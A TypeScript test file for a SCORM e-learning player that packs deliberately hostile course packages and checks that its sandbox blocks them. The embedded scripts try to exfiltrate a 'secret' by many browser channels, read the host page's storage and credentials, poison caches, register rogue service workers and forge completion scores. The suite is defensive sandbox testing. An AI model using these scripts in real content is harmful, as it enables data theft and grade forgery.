import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { makePackage, manifest12 } from "#testing/scorm-packages.ts";
import { openPlayerScene, type PlayerScene } from "./player-scene.ts";

/**
 * Packages that try what a package must not. Each attempt writes what came of it into the page, so that a test sees that it was
 * really made; who must not be reached counts every connection.
 */
const items = [{ identifier: "a", title: "Start", href: "index.html" }];
const hostile = (script: string, more: Readonly<Record<string, string>> = {}) =>
  makePackage(manifest12({ items }), {
    "index.html": `<!doctype html><html><body><pre id="out"></pre><script>
const tried = {}, out = document.getElementById("out");
const say = (name, what) => { tried[name] = String(what); out.textContent = JSON.stringify(tried); };
const attempt = async (name, run) => { try { say(name, await Promise.race([run(), new Promise((r) => setTimeout(r, 3000, "nothing"))])); } catch (error) { say(name, "refused: " + error.name); } };
(async () => { ${script}; say("done", true); })();
</script></body></html>`,
    ...more,
  });

let scene: PlayerScene;

beforeAll(async () => {
  scene = await openPlayerScene();
});
afterAll(() => scene?.close());

const play = async (
  script: string,
  { context, more }: { context?: BrowserContext; more?: Readonly<Record<string, string>> } = {},
): Promise<{ page: Page; tried: Record<string, string> }> => {
  scene.packages.set("hostile", hostile(script, more));
  const page = await scene.open("hostile", context);
  await page.evaluate(() => window.player.play());
  const out = page.frameLocator("iframe").frameLocator("iframe").locator("#out");
  await out.getByText('"done":"true"').waitFor({ timeout: 60_000 });
  return { page, tried: JSON.parse((await out.textContent())!) as Record<string, string> };
};

const visits = () => [scene.gate, scene.vault, scene.elsewhere].map((one) => one.visits());

test("a package reaches neither gate nor vault nor anybody else, in whatever way it asks", async () => {
  const before = visits();
  const addresses = JSON.stringify([scene.gate.url, scene.vault.url, scene.elsewhere.url]);
  const { page, tried } = await play(`
    const load = (element, address) => new Promise((resolve) => {
      element.onload = () => resolve("loaded"); element.onerror = () => resolve("refused"); element.src = address;
    });
    for (const [i, url] of ${addresses}.entries()) {
      await attempt("fetch" + i, async () => (await fetch(url + "/x")).text());
      await attempt("no-cors" + i, async () => (await fetch(url + "/x", { mode: "no-cors", method: "POST", body: "secret" })).type);
      await attempt("request" + i, () => new Promise((resolve) => { const x = new XMLHttpRequest(); x.onload = () => resolve("loaded"); x.onerror = () => resolve("refused"); x.open("GET", url); x.send(); }));
      await attempt("beacon" + i, async () => { navigator.sendBeacon(url + "/b", "secret"); return "asked"; });
      await attempt("image" + i, () => load(new Image(), url + "/i.png"));
      await attempt("script" + i, () => load(document.body.appendChild(document.createElement("script")), url + "/s.js"));
      await attempt("audio" + i, async () => { const a = new Audio(url + "/a.mp3"); a.load(); return "asked"; });
      await attempt("socket" + i, () => new Promise((resolve) => { const s = new WebSocket(url.replace("http", "ws")); s.onopen = () => resolve("open"); s.onerror = () => resolve("refused"); }));
      await attempt("events" + i, () => new Promise((resolve) => { const s = new EventSource(url); s.onopen = () => resolve("open"); s.onerror = () => resolve("refused"); }));
      await attempt("style" + i, async () => { const s = document.createElement("style"); s.textContent = "@import url(" + url + "/c.css); #out { background: url(" + url + "/p.png) } @font-face { font-family: x; src: url(" + url + "/f.woff) } #out { font-family: x }"; document.head.append(s); return "asked"; });
      await attempt("worker" + i, async () => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "/w').then((r) => r.text()).then(postMessage, () => postMessage('refused'))"]))); return new Promise((resolve) => { w.onmessage = ({ data }) => resolve(data); }); });
      await attempt("frame" + i, () => new Promise((resolve) => { const f = document.createElement("iframe"); f.onload = () => { try { resolve(f.contentDocument ? "ours" : "theirs"); } catch { resolve("refused"); } }; f.src = url + "/f"; document.body.append(f); }));
      await attempt("prefetch" + i, async () => { for (const rel of ["prefetch", "prerender", "modulepreload", "preload", "stylesheet", "icon", "manifest"]) { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = url + "/" + rel; document.head.append(l); } return "asked"; });
      await attempt("fresh" + i, async () => { const f = document.createElement("iframe"); document.body.append(f); return (await f.contentWindow.fetch(url + "/fresh")).text(); });
      await attempt("written" + i, async () => { const f = document.createElement("iframe"); f.srcdoc = "<img src='" + url + "/srcdoc.png'><form action='" + url + "/form' method=post><input name=a value=secret></form><script>document.forms[0].submit()<\\/script>"; document.body.append(f); await new Promise((r) => setTimeout(r, 500)); return "asked"; });
      await attempt("data" + i, async () => { const f = document.createElement("iframe"); f.src = "data:text/html,<script>fetch('" + url + "/data');new Image().src='" + url + "/data.png'<\\/script>"; document.body.append(f); await new Promise((r) => setTimeout(r, 500)); return "asked"; });
      await attempt("blank" + i, async () => { const f = document.createElement("form"); f.action = url + "/form"; f.target = "_blank"; document.body.append(f); f.submit(); return "asked"; });
      await attempt("window" + i, async () => String(window.open(url + "/w")));
      await attempt("link" + i, async () => { const a = document.createElement("a"); a.href = url + "/a"; a.target = "_blank"; a.ping = url + "/ping"; document.body.append(a); a.click(); return "asked"; });
      await attempt("top" + i, async () => { top.location = url + "/top"; return "asked"; });
      await attempt("topLink" + i, async () => { const a = document.createElement("a"); a.href = url + "/a"; a.target = "_top"; document.body.append(a); a.click(); return "asked"; });
    }
  `);
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  expect(visits()).toEqual(before);
  for (const kind of ["fetch", "request", "image", "script", "socket", "events", "worker", "fresh"]) {
    for (const i of [0, 1, 2])
      expect([kind, tried[`${kind}${i}`]]).toEqual([kind, expect.stringContaining("refused")]);
  }
  expect(tried["window0"]).toBe("null");
  expect(page.url()).toBe(`${scene.pageOrigin}/index.html`);
  expect(page.context().pages()).toHaveLength(1);
  await page.context().close();
});

const waysToLeave: Readonly<Record<string, string>> = {
  "its-own-frame": `location.href = ADDRESS`,
  "the-frame-of-the-shell": `parent.location.href = ADDRESS`,
  link: `const a = document.createElement("a"); a.href = ADDRESS; document.body.append(a); a.click()`,
  refresh: `document.head.innerHTML = "<meta http-equiv=refresh content='0;url=" + ADDRESS + "'>"`,
  form: `const f = document.createElement("form"); f.action = ADDRESS; f.method = "post"; document.body.append(f); f.submit()`,
  "form-of-the-shell": `const f = parent.document.createElement("form"); f.action = ADDRESS; parent.document.body.append(f); f.submit()`,
  "page-that-it-writes": `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = ADDRESS`,
};

test("a package cannot carry anything away by leaving, whichever way it takes", async () => {
  const before = visits();
  // Side by side, each in a browser context of its own: what each of them does takes time to not happen.
  const left = await Promise.all(
    Object.entries(waysToLeave).map(async ([name, way]) => {
      scene.packages.set(
        name,
        hostile(way.replace("ADDRESS", JSON.stringify(`${scene.elsewhere.url}/?secret`))),
      );
      const page = await scene.open(name);
      await page.evaluate(() => window.player.play());
      await page.locator("iframe").waitFor();
      await page.waitForTimeout(3_000);
      const url = page.url();
      await page.context().close();
      return [name, url];
    }),
  );
  expect(visits()).toEqual(before);
  expect(left).toEqual(Object.keys(waysToLeave).map((name) => [name, `${scene.pageOrigin}/index.html`]));
});

test("a package reads nothing of our page: not its document, its storage, its cookies, nor its keys", async () => {
  const context = await scene.openContext();
  const first = await scene.open("hostile-none", context);
  await first.evaluate(async () => {
    localStorage.setItem("secret", "of our page");
    await caches.open("secret of our page");
    await new Promise((resolve) => {
      indexedDB.open("secret of our page").onsuccess = resolve;
    });
  });
  const { page, tried } = await play(
    `
    await attempt("document", async () => top.document.title);
    await attempt("player", async () => top.player);
    await attempt("frames", async () => top.frames.length);
    await attempt("storage", async () => localStorage.getItem("secret"));
    await attempt("caches", async () => (await caches.keys()).join());
    await attempt("databases", async () => (await indexedDB.databases()).map(({ name }) => name).join());
    await attempt("domain", async () => { document.domain = "localhost"; return top.document.title; });
    await attempt("passkey", async () => { await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: "localhost" } }); return "given"; });
    await attempt("camera", async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return "given"; });
    await attempt("place", () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("given"), () => resolve("refused"))));
    await attempt("clipboard", async () => navigator.clipboard.readText());
    await attempt("messages", () => new Promise((resolve) => { addEventListener("message", ({ data }) => resolve("heard " + JSON.stringify(data))); setTimeout(resolve, 1000, "nothing"); }));
  `,
    { context },
  );
  expect(tried).toMatchObject({
    document: "refused: SecurityError",
    player: "refused: SecurityError",
    storage: "null",
    caches: "",
    databases: "",
    passkey: expect.stringContaining("refused"),
    camera: expect.stringContaining("refused"),
    place: "refused",
    clipboard: expect.stringContaining("refused"),
    messages: "nothing",
  });
  expect(tried["domain"]).toMatch(/refused/);
  expect(page.url()).toBe(`${scene.pageOrigin}/index.html`);
  await context.close();
});

test("a package finds nothing that another left behind, and changes nothing of how another plays", async () => {
  const context = await scene.openContext();
  const { page } = await play(
    `
    localStorage.setItem("left", "behind"); sessionStorage.setItem("left", "behind"); document.cookie = "left=behind; path=/";
    await new Promise((resolve) => { indexedDB.open("left").onsuccess = resolve; });
    const cache = await caches.open("left");
    const evil = () => new Response("<script>parent.postMessage('taken over', '*')<\\/script>", { headers: { "content-type": "text/html" } });
    for (const path of ["/shell-1.2.js", "/worker.js", "/settings.js", "/boot.js", location.pathname]) await cache.put(path, evil());
    await attempt("worker", async () => { await navigator.serviceWorker.register(location.pathname.replace("index.html", "evil.js"), { scope: "/" }); return "registered"; });
    for (const script of ["/boot.js", "/settings.js"]) await attempt("our " + script, async () => { await navigator.serviceWorker.register(script, { scope: "/play/" }); return "registered"; });
    await attempt("blob worker", async () => { await navigator.serviceWorker.register(URL.createObjectURL(new Blob([""], { type: "text/javascript" }))); return "registered"; });
    const registration = await navigator.serviceWorker.getRegistration();
    await attempt("message", async () => { registration.active.postMessage({ kind: "package" }); return "sent"; });
  `,
    {
      context,
      more: { "evil.js": "addEventListener('fetch', (e) => e.respondWith(new Response('taken over')))" },
    },
  );
  const tried = JSON.parse(
    (await page.frameLocator("iframe").frameLocator("iframe").locator("#out").textContent())!,
  ) as Record<string, string>;
  expect(tried["worker"]).toMatch(/refused/);
  expect(tried["our /boot.js"]).toMatch(/refused/);
  expect(tried["our /settings.js"]).toMatch(/refused/);
  expect(tried["blob worker"]).toMatch(/refused/);
  // It just goes, without a farewell in which anything could be tidied up.
  await page.close();

  const next = await play(
    `
    await attempt("local", async () => localStorage.getItem("left"));
    await attempt("session", async () => sessionStorage.getItem("left"));
    await attempt("cookie", async () => document.cookie);
    await attempt("caches", async () => (await caches.keys()).join());
    await attempt("databases", async () => (await indexedDB.databases()).map(({ name }) => name).join());
    await attempt("api", async () => typeof parent.API.LMSInitialize);
    await attempt("other", async () => (await fetch(location.pathname.replace(/[0-9a-f]{32}/, "${"ab".repeat(16)}"))).status);
  `,
    { context },
  );
  expect(next.tried).toMatchObject({
    local: "null",
    session: "null",
    cookie: "",
    caches: "",
    databases: "",
    api: "function",
    other: "404",
  });
  await context.close();
});

test("two packages are never on one page at once, where one could reach the other's frame", async () => {
  const { page } = await play("");
  await page.evaluate(() => {
    const second = document.createElement("main");
    document.body.append(second);
    window.player.playBeside(second);
  });
  await page.getByText("Another part of this kind is open.").waitFor();
  expect(await page.locator("iframe").count()).toBe(1);
  await page.context().close();
});

test("words that do not come from the frame of the package that plays count for nothing", async () => {
  const { page } = await play(`
    // The package itself is not the shell, and a frame within it is neither.
    const forged = { kind: "report", report: { item: 0, data: "", status: "completed", success: "passed", score: 100 }, whole: null, sequencing: null };
    top.postMessage(forged, "*");
    const f = document.createElement("iframe"); f.srcdoc = "<script>top.postMessage(" + JSON.stringify(forged) + ", '*')<\\/script>"; document.body.append(f);
    await new Promise((r) => setTimeout(r, 500));
  `);
  // Nor does what our own page, or another window that knows it, sends to itself.
  await page.evaluate(() =>
    window.postMessage(
      {
        kind: "report",
        report: { item: 0, data: "", status: "completed", success: "passed", score: 100 },
        whole: null,
        sequencing: null,
      },
      "*",
    ),
  );
  await page.waitForTimeout(700);
  expect(await page.evaluate(() => window.player.states.some(({ success }) => success === "passed"))).toBe(
    false,
  );
  await page.context().close();
});

test("a package that speaks in its shell's name is believed about itself alone, and only in the shapes there are", async () => {
  const { page } = await play(`
    const report = { item: 0, data: "x".repeat(300000), status: "completed", success: "passed", score: 100 };
    const speak = (message) => parent.eval("(m) => window.parent.postMessage(m, '*')")(message);
    speak({ kind: "report", report: { ...report, score: 101 }, whole: null, sequencing: null });
    speak({ kind: "report", report: { ...report, data: "x".repeat(400001) }, whole: null, sequencing: null });
    speak({ kind: "report", report: { ...report, package: "another" }, whole: null, sequencing: null });
    speak({ kind: "report", report: { ...report, item: 7 }, whole: null, sequencing: null });
    speak("nonsense"); speak(null); speak({ kind: "constructor" });
    await new Promise((r) => setTimeout(r, 500));
  `);
  expect(await page.evaluate(() => window.player.states.some(({ success }) => success === "passed"))).toBe(
    false,
  );
  expect(await page.evaluate(() => Math.max(...window.player.states.map(({ kept }) => kept)))).toBeLessThan(
    65_536,
  );
  await page.context().close();
});

test("a package that floods our page is closed; what was reached before stays", async () => {
  scene.packages.set(
    "flood",
    hostile(`
      api = parent.API; api.LMSInitialize(""); api.LMSSetValue("cmi.core.score.raw", "50"); api.LMSCommit("");
      await new Promise((r) => setTimeout(r, 1500));
      parent.eval("for (let i = 0; i < 3000; i++) window.parent.postMessage({ kind: 'ready', protocol: 1, i }, '*')");
    `),
  );
  const page = await scene.open("flood");
  await page.evaluate(() => window.player.play());
  await page.getByText("It sent more than any course needs and was stopped.").waitFor();
  expect(await page.locator("iframe").count()).toBe(0);
  expect(await page.evaluate(() => window.player.states.at(-1)?.score)).toBe(50);
  await page.context().close();
});
